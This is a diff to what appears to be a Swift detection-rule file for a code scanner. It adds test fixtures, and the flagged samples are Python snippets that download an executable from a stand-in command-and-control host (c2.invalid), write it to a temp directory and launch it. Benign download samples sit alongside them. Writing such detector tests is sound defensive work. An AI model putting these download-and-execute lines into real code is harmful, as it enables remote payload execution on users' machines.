@@ -38,11 +38,17 @@ extension Rule {
             .python(
                 "import urllib.request, os\nurllib.request.urlretrieve('http://c2.invalid/x', '/tmp/x')\nos.chmod('/tmp/x', 0o700)\nos.spawnl(os.P_NOWAIT, '/tmp/x', 'x')"
             ),
+            .python(
+                "import requests, os, tempfile\nr = requests.get('https://c2.invalid/a.exe')\np = os.path.join(tempfile.gettempdir(), 'a.exe')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nos.startfile(p)"
+            ),
         ],
         passes: [
             .python(
                 "import urllib.request\nurllib.request.urlretrieve('https://example.com/d.csv', 'd.csv')"),
             .python("import os\nos.system('ls')"),
+            .python(
+                "import requests, subprocess\nwith open('d.csv', 'wb') as f:\n    f.write(requests.get('https://example.com/d').content)\nsubprocess.run(['python3', 'plot.py'])"
+            ),
         ])
 
     static let reverseShell = Rule(
